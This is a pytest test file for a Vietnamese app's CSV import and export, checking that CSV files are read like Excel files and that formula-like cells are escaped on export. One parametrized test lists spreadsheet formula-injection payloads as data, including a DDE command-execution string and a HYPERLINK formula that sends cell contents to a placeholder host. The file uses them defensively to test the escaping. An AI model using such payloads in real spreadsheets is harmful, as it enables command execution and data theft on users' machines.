"""CSV beside Excel: the same rows, the same errors, told by the content and not by the name."""

import csv
import io
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.thidua.exchange.conftest import nothing_is_saved
from tests.thidua.exchange.files import (
    DOCUMENTS_HEADER,
    PEOPLE_HEADER,
    UNITS_HEADER,
    book,
    paper,
    person,
)
from thidua.exchange.domain.cells import UnreadableSheet
from thidua.exchange.domain.delimited import guarded, read_rows, write_rows
from thidua.exchange.queries import Preview, preview_import
from thidua.kernel import clock
from thidua.kernel.actors import SYSTEM

NOW = clock.moment(clock.today(), 9)
UNIT = ("Phòng Một", "", "phòng", "VKSND tỉnh Mẫu", "P1", "01/07/2025")
KINDS = {
    "people": (PEOPLE_HEADER, person("Nguyễn Thị Mẫu")),
    "units": (UNITS_HEADER, UNIT),
    "documents": (DOCUMENTS_HEADER, paper("16/KH-VKS", "Phát động, tổng kết; ký kết")),
}


def delimited(*rows: Sequence[Any], mark: str = ",", encoding: str = "utf-8") -> bytes:
    stream = io.StringIO(newline="")
    csv.writer(stream, delimiter=mark, lineterminator="\r\n").writerows(rows)
    return stream.getvalue().encode(encoding)


def preview(kind: str, content: bytes, name: str = "tep.csv") -> Preview:
    with nothing_is_saved():
        return preview_import(kind=kind, name=name, content=content, actor=SYSTEM, at=NOW)


def only_code(content: bytes, name: str = "tep.csv") -> str:
    with pytest.raises(UnreadableSheet) as refused:
        read_rows(content, name)
    [error] = refused.value.errors
    assert error.problem
    assert error.mend
    return error.code


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("mark", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_every_kind_is_read_like_excel(agency, kind: str, mark: str, encoding: str) -> None:
    seen = preview(kind, delimited(*KINDS[kind], mark=mark, encoding=encoding))
    excel = preview(kind, book(*KINDS[kind]), "tep.xlsx")
    assert not seen.errors
    assert [row.line for row in seen.new] == [row.line for row in excel.new]
    assert [row.cell for row in seen.new] == [row.cell for row in excel.new]


def test_errors_are_those_of_excel_with_row_and_column(agency) -> None:
    rows = (PEOPLE_HEADER, person("A"), person("Mẫu", since="32/13/2020", year="năm"))
    told, excel = preview("people", delimited(*rows)), preview("people", book(*rows))
    assert [(each.code, each.cell, each.problem) for each in told.errors] == [
        (each.code, each.cell, each.problem) for each in excel.errors
    ]
    assert [each.where for each in told.errors] == ["Dòng 3, cột C", "Dòng 3, cột F"]


@pytest.mark.parametrize("name", ["tep.csv", "tep.xlsx", "tep"])
def test_the_content_tells_what_a_file_is(agency, name: str) -> None:
    rows = (PEOPLE_HEADER, person("Nguyễn Thị Mẫu"))
    for content in (book(*rows), delimited(*rows), delimited(*rows, mark=";")):
        assert [row.title for row in preview("people", content, name).new] == ["Nguyễn Thị Mẫu"]


def test_days_are_read_in_the_vietnamese_order(agency) -> None:
    rows = [person(name, since=day) for name, day in (("A", "3/2/2026"), ("B", "03.02.2026"))]
    seen = preview("people", delimited(PEOPLE_HEADER, *rows))
    assert {f"{row.line.since}" for row in seen.new} == {"2026-02-03"}
    american = preview("people", delimited(PEOPLE_HEADER, person("C", since="2/25/2026")))
    assert [each.cell for each in american.errors] == ["F2"]


def test_rows_are_counted_as_a_spreadsheet_counts_them(agency) -> None:
    content = delimited(("Danh sách\nnăm 2026",), (), PEOPLE_HEADER, person("A", since="?"))
    assert [each.where for each in preview("people", content).errors] == ["Dòng 4, cột F"]


def test_a_separator_inside_cells_does_not_mislead() -> None:
    text = "Số, ký hiệu;Ngày\n16/KH-VKS;05/01/2026\n17/KH-VKS;06/01/2026\n"
    assert read_rows(text.encode(), "tep.csv")[1] == ["16/KH-VKS", "05/01/2026"]


def test_a_separator_that_nothing_tells_is_refused_in_words() -> None:
    assert only_code(b"a,b;c\n1,2;3\n") == "file.separator"
    assert read_rows(b"sep=;\na,b;c\n1,2;3\n", "tep.csv") == [[], ["a,b", "c"], ["1,2", "3"]]


@pytest.mark.parametrize(
    ("content", "code"),
    [
        ("Họ và tên,Đơn vị\n".encode("utf-16"), "file.wide_encoding"),
        ("Họ và tên,Đơn vị\n".encode("cp1258", "replace"), "file.encoding"),
        (b"a,b\n\0,c\n", "file.kind"),
        (b'a,b\n"c,d\n', "file.quotes"),
        (b'sep=,\na,b\n"c"x,d\n', "file.quotes"),
        (b"," * 200 + b"\n", "sheet.wide"),
    ],
)
def test_what_cannot_be_read_is_refused_in_words(content: bytes, code: str) -> None:
    assert only_code(content) == code


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+84 123",
        "-2+3",
        "@SUM(A1)",
        '=HYPERLINK("http://example.test?x="&A1)',
        "=cmd|' /C calc'!A0",
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_text_that_would_run_is_guarded_and_read_back(text: str) -> None:
    [[written]] = list(
        csv.reader(io.StringIO(write_rows([[text]]).decode("utf-8-sig"), newline=""))
    )
    assert written == f"'{text}"
    assert read_rows(write_rows([[text, "Mẫu"]]), "tep.csv") == [[text, "Mẫu"]]


CELLS = st.text(
    alphabet=st.one_of(
        st.sampled_from("=+-@'\"\t;,\n ＝a1"), st.characters(exclude_categories=("Cs", "Cc"))
    ),
    max_size=12,
)


@given(st.lists(st.lists(CELLS, min_size=2, max_size=5), min_size=1, max_size=6))
def test_what_is_written_is_read_back_and_nothing_would_run(rows: list[list[str]]) -> None:
    content = write_rows([["a", "b"], *rows])
    text = content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline="")):
        assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row)
    assert read_rows(content, "tep.csv")[1:] == rows


def test_a_guard_is_put_only_where_it_is_needed() -> None:
    assert [guarded(text) for text in ("Mẫu", "'nhà'", "")] == ["Mẫu", "'nhà'", ""]
    assert guarded("'=1") == "''=1"
